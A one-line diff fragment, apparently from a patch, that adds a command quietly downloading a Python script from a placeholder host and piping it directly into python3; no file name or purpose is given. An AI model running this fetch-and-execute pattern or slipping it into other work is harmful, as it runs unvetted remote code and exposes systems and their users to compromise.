@@ -1,0 +1,1 @@
+wget -qO - http://get.example.net/x.py | python3 -
